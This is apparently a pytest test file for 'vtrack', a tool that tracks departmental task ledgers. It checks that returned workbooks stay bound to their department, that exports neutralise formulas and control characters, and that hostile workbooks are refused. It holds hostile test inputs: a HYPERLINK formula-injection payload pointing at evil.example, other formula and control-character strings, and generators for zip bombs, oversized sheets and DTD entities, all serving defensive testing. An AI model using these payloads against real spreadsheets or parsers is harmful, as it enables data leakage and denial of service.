"""Files that leave the office and come back: a returned 台账 is bound to the task and the
department it was sent for, nothing vtrack writes runs as a formula or carries control
characters, and a hostile workbook is refused quickly, before it is expanded."""
import csv
import hashlib
import io
import re
import time
import zipfile

import openpyxl
import pytest
import yaml

from conftest import task, write_tasks

# through the installed command: the slow layer (`-m "not slow"` leaves them out)
pytestmark = pytest.mark.slow

AS_OF = "2022-09-20"


@pytest.fixture
def office(tmp_path):
    plans = [
        {"id": "ezhou-2022", "title": "鄂州市推动现代职业教育高质量发展的实施方案", "tasks": [
            task("ezhou-2022", 1, ["市人社局", "市教育局"], "2022-09-30"),
            task("ezhou-2022", 2, ["市教育局"], "2022-10-31"),
            task("ezhou-2022", 3, ["市人社局"], "2022-11-30"),
            task("ezhou-2022", 4, ["市人社局"], "2022-12-31"),
        ]},
        {"id": "ezhou-2023", "title": "鄂州市技能人才队伍建设方案", "tasks": [
            task("ezhou-2023", 1, ["市人社局"], "2023-06-30"),
        ]},
    ]
    return write_tasks(tmp_path / "tasks.yaml", plans)


def export(run, tmp_path, name="hr.xlsx", dept="市人社局"):
    result = run("export", "-o", name, "--as-of", AS_OF, *(["--dept", dept] if dept else []))
    assert result.code == 0, result.err
    return tmp_path / name


def rows_by_id(sheet):
    header = [c.value for c in sheet[3]]
    return {row[header.index("编号")].value: dict(zip(header, row, strict=True))
            for row in sheet.iter_rows(min_row=4) if row[header.index("编号")].value}


def tamper(path, change):
    book = openpyxl.load_workbook(path)
    change(book)
    book.save(path)


def fill(row, progress="已完成", done=True):
    row["进展情况"].value = progress
    if done:
        row["是否办结"].value = "是"


def import_(run, name="hr.xlsx"):
    return run("import", name, "--as-of", "2022-09-21", env={"VTRACK_USER": "陈卓"})


def skipped_line(result, task_id):
    """The line of the skipped table that names task_id (or a sheet, as 'name!')."""
    part = result.out.split("跳过", 1)[1] if "跳过" in result.out else ""
    lines = [line for line in part.splitlines() if task_id in line]
    assert lines, result.out
    return lines[0]


def tasks_of(path):
    return {t["id"]: t for p in yaml.safe_load(path.read_text(encoding="utf-8"))["plans"]
            for t in p["tasks"]}


def notes(tmp_path):
    history = tmp_path / "tasks.history.yaml"
    return history.read_text(encoding="utf-8") if history.exists() else ""


# -- 1. the returned 台账 is bound to its task and its department ----------------------------------

@pytest.mark.parametrize("department", [None, "鄂州市教育局"])
def test_a_changed_department_closes_nothing(run, office, tmp_path, department):
    # task 01 is shared by 人社局 and 教育局: a blanked department (no ownership check) or
    # 教育局's name in the hidden sheet must not let 人社局's workbook close it
    path = export(run, tmp_path)

    def change(book):
        book["vtrack"]["B2"].value = department
        fill(rows_by_id(book["ezhou-2022"])["ezhou-2022-01"])
    tamper(path, change)
    before = office.read_text(encoding="utf-8")
    result = import_(run)
    assert result.code == 0, result.err
    assert "部门被改动" in skipped_line(result, "ezhou-2022-01")
    assert "没有要导入的变更" in result.out
    assert office.read_text(encoding="utf-8") == before and "ezhou-2022-01" not in notes(tmp_path)


@pytest.mark.parametrize("other", ["ezhou-2022-04", "ezhou-2022-01"])
def test_a_row_given_another_tasks_id_is_skipped(run, office, tmp_path, other):
    # 04: the same department's; 01: shared with another department. Both were accepted when
    # the check code covered only the text a row shows
    path = export(run, tmp_path)

    def change(book):
        row = rows_by_id(book["ezhou-2022"])["ezhou-2022-03"]
        row["编号"].value = other
        fill(row)
        fill(rows_by_id(book["ezhou-2023"])["ezhou-2023-01"], "按计划推进", done=False)
    tamper(path, change)
    before = tasks_of(office)
    result = import_(run)
    assert result.code == 0, result.err
    assert "核对码不符" in skipped_line(result, other)
    after = tasks_of(office)
    assert after[other] == before[other] and after["ezhou-2022-03"] == before["ezhou-2022-03"]
    assert other not in notes(tmp_path)
    assert "ezhou-2023-01, note: 按计划推进" in notes(tmp_path)  # an honest row still goes in


def test_a_check_code_rebuilt_without_id_and_department_is_skipped(run, office, tmp_path):
    # someone who read an old vtrack's source: edit the row, rebuild its code the old way
    # (text, lead, owners), and send it in another department's name
    path = export(run, tmp_path)

    def plain(value):
        return re.sub(r"\s+", "", "" if value is None else str(value))

    def change(book):
        book["vtrack"]["B2"].value = "鄂州市教育局"
        row = rows_by_id(book["ezhou-2022"])["ezhou-2022-01"]
        fill(row)
        sent = "\n".join(plain(row[k].value) for k in ("任务", "牵头单位", "责任单位"))
        row["核对码"].value = hashlib.sha256(sent.encode("utf-8")).hexdigest()[:12]
    tamper(path, change)
    before = office.read_text(encoding="utf-8")
    result = import_(run)
    assert result.code == 0 and "核对码不符" in skipped_line(result, "ezhou-2022-01")
    assert office.read_text(encoding="utf-8") == before and notes(tmp_path) == ""


def test_a_workbook_of_the_old_format_is_refused(run, office, tmp_path):
    # its check codes do not cover the id and the department: export again, not trust it
    path = export(run, tmp_path)

    def change(book):
        book["vtrack"]["B1"].value = "vtrack-台账 1"
        fill(rows_by_id(book["ezhou-2022"])["ezhou-2022-03"])
    tamper(path, change)
    before = office.read_text(encoding="utf-8")
    result = import_(run)
    assert result.code == 1 and "重新导出" in result.err and "旧版" in result.err
    assert len(result.err.splitlines()) == 1 and result.err.startswith("vtrack: ")
    assert office.read_text(encoding="utf-8") == before


@pytest.mark.parametrize("sheet_state", ["hidden", "veryHidden"])
@pytest.mark.parametrize("row_hidden_by", ["hidden", "zero height"])
def test_hidden_sheets_and_rows_are_not_read(run, office, tmp_path, sheet_state,
                                            row_hidden_by):
    path = export(run, tmp_path)

    def change(book):
        fill(rows_by_id(book["ezhou-2023"])["ezhou-2023-01"])
        book["ezhou-2023"].sheet_state = sheet_state
        sheet = book["ezhou-2022"]
        rows = rows_by_id(sheet)
        fill(rows["ezhou-2022-03"])
        fill(rows["ezhou-2022-04"], "已报送", done=False)
        hidden = rows["ezhou-2022-03"]["编号"].row
        if row_hidden_by == "hidden":
            sheet.row_dimensions[hidden].hidden = True
        else:  # Excel's "hide the rest": rows are hidden unless given a height
            sheet.sheet_format.zeroHeight = True
            for number in range(1, sheet.max_row + 1):
                sheet.row_dimensions[number].height = None if number == hidden else 15
    tamper(path, change)
    before = tasks_of(office)
    result = import_(run)
    assert result.code == 0, result.err
    assert "工作表被隐藏" in skipped_line(result, "ezhou-2023!")
    assert "这一行被隐藏" in skipped_line(result, "ezhou-2022-03")
    after = tasks_of(office)
    for task_id in ("ezhou-2023-01", "ezhou-2022-03"):
        assert after[task_id] == before[task_id] and task_id not in notes(tmp_path)
    assert "ezhou-2022-04, note: 已报送" in notes(tmp_path)  # the visible row is read


# -- 2. nothing written runs as a formula or carries control characters -------------------------

@pytest.fixture
def hostile(tmp_path):
    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    plans = [{"id": "p-2022", "title": title, "doc_no": "+1", "tasks": [
        task("p-2022", 1, ["=1+1局"], "2022-12-31", title="\r=1+1",
             text="第一项\r=2+2\x1b[31m红\x07"),
        task("p-2022", 2, ["@SUM(1)局", "-2局"], "2022-12-31", title="\t=3+3",
             text="=HYPERLINK(\"http://evil.example\")"),
    ]}]
    write_tasks(tmp_path / "tasks.yaml", plans)
    return title


def test_csv_cells_are_text_and_one_line_each(run, hostile):
    out = run("list", "--all", "--format", "csv").out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out)  # no CR, ESC or BEL
    lines = out.splitlines()  # as a spreadsheet splits: at CR as well as LF
    assert len(lines) == 3 and not any(line[:1] in ("=", "+", "-", "@", "\t") for line in lines)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["任务"] for row in rows] == ["'=1+1", "'=3+3"]
    assert rows[0]["责任单位"] == "'=1+1局" and rows[1]["内容"].startswith("'=HYPERLINK")
    for row in rows:  # a number is digits (-121 days overdue); any other text is not a formula
        assert not [value for value in row.values() if value.lstrip()[:1] in ("=", "+", "-", "@")
                    and not re.fullmatch(r"-?\d+", value)]


def test_xlsx_cells_are_text_never_formulas(run, hostile, tmp_path):
    # a department named =1+1局 (in the hidden sheet too), a plan titled =HYPERLINK(…)
    assert run("export", "--dept", "=1+1局", "-o", "out.xlsx", "--as-of", AS_OF).code == 0
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["p-2022"]
    assert sheet["A1"].value == hostile and sheet["A1"].data_type == "s"
    assert sheet["A2"].value.startswith("文号：+1")
    assert book["vtrack"]["B2"].value == "=1+1局" and book["vtrack"]["B2"].data_type == "s"
    assert rows_by_id(sheet)["p-2022-01"]["牵头单位"].value == "=1+1局"
    # and it still comes back: the department's name is bound into the check code as text
    rows_by_id(sheet)["p-2022-01"]["进展情况"].value = "已推进"
    book.save(tmp_path / "out.xlsx")
    result = run("import", "out.xlsx", "--as-of", AS_OF)
    assert result.code == 0 and "跳过" not in result.out, result.out
    assert "note: 已推进, by: =1+1局" in notes(tmp_path)


def test_the_calendar_carries_no_control_characters(run, hostile, tmp_path):
    assert run("ics", "-o", "tasks.ics").code == 0
    data = (tmp_path / "tasks.ics").read_bytes()
    assert b"\x1b" not in data and b"\x07" not in data
    assert not re.search(rb"\r(?!\n)|(?<!\r)\n", data)  # every line ends CRLF, no lone CR
    from icalendar import Calendar
    summaries = sorted(str(e["summary"]) for e in Calendar.from_ical(data).walk("VEVENT"))
    assert summaries == ["【=1+1局】=1+1（截止）", "【@SUM(1)局】=3+3（截止）"]  # lead first


# -- 3. a hostile workbook is refused quickly, before it is expanded ------------------------------

def rewrite(path, out, member, change):
    """path's zip copied to out, member's bytes through change(bytes, write)."""
    with zipfile.ZipFile(path) as good, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad:
        for item in good.infolist():
            data = good.read(item.filename)
            if item.filename != member:
                bad.writestr(item, data)
                continue
            info = zipfile.ZipInfo(item.filename, item.date_time)
            info.compress_type = zipfile.ZIP_DEFLATED
            with bad.open(info, "w", force_zip64=True) as stream:
                change(data.decode("utf-8"), lambda text: stream.write(text.encode("utf-8")))


def padded_cell(megabytes):
    """A bomb: a cell of that many megabytes of one letter, packed about a thousand times."""
    def change(xml, write):
        head, tail = xml.split("</sheetData>")
        write(head + '<row r="50"><c r="H50" t="inlineStr"><is><t>')
        for _ in range(megabytes // 4):
            write("A" * (4 << 20))
        write("</t></is></c></row></sheetData>" + tail)
    return "xl/worksheets/sheet1.xml", change


def in_sheet(edit):
    def change(xml, write):
        write(edit(xml))
    return "xl/worksheets/sheet1.xml", change


def claims_a_million_rows(xml):
    return re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:N1048576"/>', xml)


def rows_far_apart(xml):
    # the last row of the sheet, with a value; the sheet's dimension left as it was
    return xml.replace("</sheetData>", '<row r="1048576"><c r="A1048576" t="inlineStr">'
                                       "<is><t>x</t></is></c></row></sheetData>")


def many_merged_ranges(xml):
    merged = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(10, 60_011))
    return re.sub(r"<mergeCells .*?</mergeCells>",
                  f'<mergeCells count="60001">{merged}</mergeCells>', xml)


def with_a_dtd(xml):
    declared, _, body = xml.rpartition("?>")
    return f'{declared}{"?>" if declared else ""}<!DOCTYPE worksheet [<!ENTITY e "任务">]>{body}'


@pytest.mark.parametrize("bomb, words", [
    (padded_cell(40), "压缩炸弹"),  # 40 MB in 40 KB: the ratio
    pytest.param(padded_cell(300), "解压后有 300 MB，超过上限 256 MB",
                 marks=pytest.mark.slow),
    (in_sheet(claims_a_million_rows), "有 1048576 行，超过上限 200000 行"),
    (in_sheet(rows_far_apart), "有第 1048576 行，超过上限 200000 行"),
    (in_sheet(many_merged_ranges), "合并区域，超过上限 50000 个"),
    (in_sheet(with_a_dtd), "DTD"),
], ids=["ratio", "size", "dimension", "far-rows", "merged", "dtd"])
def test_a_hostile_workbook_is_refused_quickly(run, office, tmp_path, bomb, words):
    path = export(run, tmp_path)
    tamper(path, lambda book: fill(rows_by_id(book["ezhou-2022"])["ezhou-2022-03"]))
    member, change = bomb
    rewrite(path, tmp_path / "bad.xlsx", member, change)
    before = office.read_text(encoding="utf-8")
    start = time.perf_counter()
    result = import_(run, "bad.xlsx")
    assert time.perf_counter() - start < 5
    assert result.code == 1 and words in result.err, result.err
    assert len(result.err.splitlines()) == 1 and result.err.startswith("vtrack: bad.xlsx：")
    assert office.read_text(encoding="utf-8") == before and notes(tmp_path) == ""


def formatted_empty_rows(first, last, move=None):
    """The sheet with a formatted empty row element for each of first..last (as a sheet
    formatted to the bottom has) and a dimension that says so; move: a row's number, that row
    moved after them."""
    def change(xml, write):
        moved = ""
        if move:
            moved = re.search(rf'<row r="{move}"[^>]*>.*?</row>', xml).group(0)
            xml = xml.replace(moved, "")
            moved = re.sub(rf'r="([A-Z]*){move}"', rf'r="\g<1>{last + 1}"', moved)
        head, tail = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="A1:N{last + 1}"/>',
                            xml).split("</sheetData>")
        write(head)
        for start in range(first, last + 1, 10_000):
            write("".join(f'<row r="{n}" s="1" customFormat="1"/>'
                          for n in range(start, min(start + 10_000, last + 1))))
        write(moved + "</sheetData>" + tail)
    return change


def test_reading_stops_at_the_last_row_with_a_value(run, office, tmp_path, monkeypatch):
    # 150,000 formatted empty rows after the data: within the limits, and not read one by one
    from openpyxl.worksheet._read_only import ReadOnlyWorksheet
    path = export(run, tmp_path)
    tamper(path, lambda book: fill(rows_by_id(book["ezhou-2022"])["ezhou-2022-04"], "已报送",
                                   done=False))
    rewrite(path, tmp_path / "long.xlsx", "xl/worksheets/sheet1.xml",
            formatted_empty_rows(20, 150_000))
    rows_read = []
    get_row = ReadOnlyWorksheet._get_row

    def counted(self, *args, **kwargs):
        rows_read.append(1)
        return get_row(self, *args, **kwargs)
    monkeypatch.setattr(ReadOnlyWorksheet, "_get_row", counted)
    result = import_(run, "long.xlsx")
    assert result.code == 0, result.err
    assert "ezhou-2022-04, note: 已报送" in notes(tmp_path)
    assert len(rows_read) < 100  # the rows up to the data's last, not 150,000


def test_a_row_after_a_long_run_of_empty_rows_is_still_read(run, office, tmp_path):
    # a guard on the rule above: the end is the last value, not a guess after N empty rows
    path = export(run, tmp_path)
    tamper(path, lambda book: fill(rows_by_id(book["ezhou-2022"])["ezhou-2022-04"], "远处的一行",
                                   done=False))
    sheet = openpyxl.load_workbook(path)["ezhou-2022"]
    number = rows_by_id(sheet)["ezhou-2022-04"]["编号"].row
    rewrite(path, tmp_path / "far.xlsx", "xl/worksheets/sheet1.xml",
            formatted_empty_rows(20, 30_000, move=number))
    result = import_(run, "far.xlsx")
    assert result.code == 0, result.err
    assert "far.xlsx ezhou-2022!30001行" in result.out
    assert "ezhou-2022-04, note: 远处的一行" in notes(tmp_path)
